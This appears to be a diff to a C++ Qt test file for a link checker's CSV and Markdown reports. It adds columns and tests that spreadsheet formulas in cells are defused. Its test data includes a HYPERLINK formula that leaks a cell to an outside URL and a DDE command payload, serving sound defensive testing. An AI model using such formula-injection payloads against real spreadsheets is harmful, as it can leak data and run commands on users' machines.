@@ -1,6 +1,10 @@
 // The --format csv and --format markdown reports: hostile text read back exactly through a small
 // RFC 4180 reader and a table-cell reader, and tables that keep their shape.
+#include "cli/CheckedLinkFormat.h"
 #include "cli/ReportFormat.h"
+
+#include <QJsonDocument>
+#include <QJsonObject>
 
 #include <QtTest>
 
@@ -9,7 +13,7 @@ CheckedLink outcome(const QString &link, LinkVerdict verdict, const QString &rea
                     std::optional<QString> status = {}, std::optional<int> http = {},
                     const QString &source = {})
 {
-    return {link, verdict, reason, status, http, 1, source};
+    return {link, verdict, reason, status, http, 1, source, {}, {}, {}};
 }
 
 // Reads a whole RFC 4180 document into records; fails the test on a malformed one.
@@ -115,7 +119,15 @@ private slots:
         QTest::newRow("hostile fields") << outcome(HostileLink, LinkVerdict::Invalid, HostileReason,
                                                    u"A,\"B\"\rC"_qs, 410, u"in \"x\",\n.html:3"_qs);
         QTest::newRow("lone quote and lone CR")
-            << outcome(u"\""_qs, LinkVerdict::Invalid, u"\r"_qs);
+            << outcome(u"\""_qs, LinkVerdict::Invalid, u"x\r"_qs);
+        CheckedLink said = outcome(u"https://d"_qs, LinkVerdict::Invalid, u"A, \"b\" - c\nd"_qs,
+                                   u"ERROR"_qs, 200);
+        said.siteReason = u"A, \"b\""_qs;
+        said.siteSubreason = u"c\nd"_qs;
+        QTest::newRow("the site's reason and subreason") << said;
+        said.verdict = LinkVerdict::Unknown;
+        said.reason = u"bot check"_qs;
+        QTest::newRow("what the site said on a page that judged nothing") << said;
     }
     void csvReadsBackExactly()
     {
@@ -124,25 +136,76 @@ private slots:
         const QList<QStringList> records
             = readCsv(ReportFormat::csvHeader(SourceColumn::With)
                       + ReportFormat::csvRow(checked, SourceColumn::With));
+        const bool unknown = checked.verdict == LinkVerdict::Unknown;
         const QStringList expected {checked.link,
                                     ReportFormat::verdictWord(checked.verdict),
-                                    checked.reason,
+                                    checked.siteReason.value_or(checked.reason),
                                     checked.status.value_or(QString()),
                                     checked.http ? QString::number(*checked.http) : QString(),
+                                    checked.siteSubreason.value_or(QString()),
+                                    unknown ? checked.reason : QString(),
                                     checked.source};
         QCOMPARE(records,
-                 (QList<QStringList> {{"link", "verdict", "reason", "status", "http", "source"},
+                 (QList<QStringList> {{"link", "verdict", "reason", "status", "http", "subreason",
+                                       "cause", "source"},
                                       expected}));
+    }
+
+    // A cell a spreadsheet would run as a formula gets a leading apostrophe, in every column
+    // that holds text from a link file or a server; JSON keeps the text exact.
+    void csvCellsThatSpreadsheetsRunAreDefused_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("sum") << u"=1+1"_qs << u"'=1+1"_qs;
+        QTest::newRow("link that sends a cell away")
+            << u"=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs
+            << u"'=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs;
+        QTest::newRow("DDE") << u"=cmd|' /C calc'!A0"_qs << u"'=cmd|' /C calc'!A0"_qs;
+        QTest::newRow("plus") << u"+1"_qs << u"'+1"_qs;
+        QTest::newRow("minus") << u"-2+3"_qs << u"'-2+3"_qs;
+        QTest::newRow("at") << u"@SUM(A1)"_qs << u"'@SUM(A1)"_qs;
+        QTest::newRow("tab") << u"\t=1"_qs << u"'\t=1"_qs;
+        QTest::newRow("carriage return") << u"\r=1"_qs << u"'\r=1"_qs;
+        QTest::newRow("sign inside") << u"a=b-c"_qs << u"a=b-c"_qs;
+        QTest::newRow("blank first") << u" =1"_qs << u" =1"_qs;
+        QTest::newRow("apostrophe first") << u"'=1"_qs << u"'=1"_qs;
+    }
+    void csvCellsThatSpreadsheetsRunAreDefused()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        CheckedLink checked = outcome(text, LinkVerdict::Unknown, text, text, 200, text);
+        checked.siteReason = checked.siteSubreason = text;
+        using ReportFormat::SourceColumn;
+        const QList<QStringList> records
+            = readCsv(ReportFormat::csvRow(checked, SourceColumn::With));
+        QCOMPARE(records,
+                 (QList<QStringList> {{cell, "unknown", cell, cell, "200", cell, cell, cell}}));
+        const QJsonObject json
+            = QJsonDocument::fromJson(CheckedLinkFormat::jsonLine(checked).toUtf8()).object();
+        for (const char *field : {"link", "reason", "subreason", "status", "cause", "source"})
+            QCOMPARE(json.value(QLatin1String(field)).toString(), text);
     }
 
     void csvLeavesPlainFieldsUnquoted()
     {
-        QCOMPARE(ReportFormat::csvHeader(), u"link,verdict,reason,status,http\r\n"_qs);
+        QCOMPARE(ReportFormat::csvHeader(),
+                 u"link,verdict,reason,status,http,subreason,cause\r\n"_qs);
         QCOMPARE(ReportFormat::csvRow(outcome(u"https://a"_qs, LinkVerdict::Valid, {}, u"OK"_qs,
                                               200, u"ignored.txt:1"_qs)),
-                 u"https://a,valid,,OK,200\r\n"_qs);
+                 u"https://a,valid,,OK,200,,\r\n"_qs);
         QCOMPARE(ReportFormat::csvRow(outcome(u"https://a"_qs, LinkVerdict::Unknown, u"x, y"_qs)),
-                 u"https://a,unknown,\"x, y\",,\r\n"_qs);
+                 u"https://a,unknown,\"x, y\",,,,\"x, y\"\r\n"_qs);
+        // A saved page has a file instead of a link, and no HTTP code.
+        using ReportFormat::SourceColumn;
+        using ReportFormat::Subject;
+        QCOMPARE(ReportFormat::csvHeader(SourceColumn::Without, Subject::Pages),
+                 u"file,verdict,reason,status,subreason,cause\r\n"_qs);
+        QCOMPARE(ReportFormat::csvRow(
+                     outcome(u"p.html"_qs, LinkVerdict::Invalid, u"Gone"_qs, u"ERROR"_qs),
+                     SourceColumn::Without, Subject::Pages),
+                 u"p.html,invalid,Gone,ERROR,,\r\n"_qs);
     }
 
     void markdownGroupsByOutcomeWithCounts()
@@ -151,7 +214,9 @@ private slots:
             {outcome(u"https://i1"_qs, LinkVerdict::Invalid, u"Private video"_qs,
                      u"LOGIN_REQUIRED"_qs, 200),
              outcome(u"https://v1"_qs, LinkVerdict::Valid, {}, u"OK"_qs, 200),
-             outcome(u"https://i2"_qs, LinkVerdict::Invalid, u"Gone"_qs, {}, 404)});
+             outcome(u"https://i2"_qs, LinkVerdict::Invalid, u"Gone"_qs, {}, 404),
+             outcome(u"https://u1"_qs, LinkVerdict::Unknown, u"bot check"_qs, u"LOGIN_REQUIRED"_qs,
+                     200)});
         QCOMPARE(report,
                  u"## Valid (1)\n\n"
                  "| Link | HTTP |\n| --- | --- |\n"
@@ -160,7 +225,13 @@ private slots:
                  "| Link | Reason | Status | HTTP |\n| --- | --- | --- | --- |\n"
                  "| `https://i1` | Private video | `LOGIN_REQUIRED` | 200 |\n"
                  "| `https://i2` | Gone |  | 404 |\n\n"
-                 "## Unknown (0)\n\nNone.\n"_qs);
+                 "## Unknown (1)\n\n"
+                 "| Link | Reason | Status | HTTP |\n| --- | --- | --- | --- |\n"
+                 "| `https://u1` | bot check | `LOGIN_REQUIRED` | 200 |\n"_qs);
+        QCOMPARE(ReportFormat::markdownReport({outcome(u"p.html"_qs, LinkVerdict::Valid)},
+                                              ReportFormat::Subject::Pages),
+                 u"## Valid (1)\n\n| File |\n| --- |\n| `p.html` |\n\n"
+                 "## Invalid (0)\n\nNone.\n\n## Unknown (0)\n\nNone.\n"_qs);
     }
 
     void markdownCellsHoldHostileTextExactly_data()
@@ -174,26 +245,30 @@ private slots:
         QTest::newRow("spaces at both ends") << u" x "_qs << u"a"_qs;
         QTest::newRow("control characters") << u"a\u0000b\u001Fc\u007Fd"_qs << u"\t\u001B[31m"_qs;
         QTest::newRow("escape look-alikes") << u"\\`|`"_qs << u"&amp; &lt;b&gt; \\*"_qs;
+        QTest::newRow("underscores") << u"https://x/a_b_"_qs << u"snake_case __init__ _em_"_qs;
     }
     void markdownCellsHoldHostileTextExactly()
     {
         QFETCH(QString, link);
         QFETCH(QString, reason);
+        const QString source = u"f|i\nle_1_*x*.md:1"_qs;
         const QString report = ReportFormat::markdownReport(
-            {outcome(link, LinkVerdict::Unknown, reason, {}, {}, u"f|i\nle:1"_qs),
+            {outcome(link, LinkVerdict::Unknown, reason, reason, {}, source),
              outcome(u"https://plain"_qs, LinkVerdict::Unknown, u"plain"_qs, {}, 503, u"f:2"_qs)});
         QStringList rows = report.split(u'\n').filter(QRegularExpression(u"^\\|"_qs));
         // Valid and invalid are empty; the unknown table is header, delimiter and two rows.
         QCOMPARE(rows.size(), 4);
         for (const QString &row : std::as_const(rows))
-            QCOMPARE(tableCells(row).size(), 4); // Link | Reason | HTTP | Source
+            QCOMPARE(tableCells(row).size(), 5); // Link | Reason | Status | HTTP | Source
         const QStringList cells = tableCells(rows[2]);
         QCOMPARE(cellText(cells[0]), link);
         QCOMPARE(cellText(cells[1]), reason);
-        QCOMPARE(cellText(cells[3]), u"f|i\nle:1"_qs);
+        QCOMPARE(cellText(cells[2]), reason);
+        QCOMPARE(cellText(cells[4]), source);
         // Nothing outside a code span may be read as markup.
-        QVERIFY2(!QRegularExpression(uR"((?<!\\)[<*_&])"_qs).match(cells[1]).hasMatch(),
-                 qPrintable(cells[1]));
+        for (const QString &plain : {cells[1], cells[4]})
+            QVERIFY2(!QRegularExpression(uR"((?<!\\)[<*_&])"_qs).match(plain).hasMatch(),
+                     qPrintable(plain));
     }
 };
 
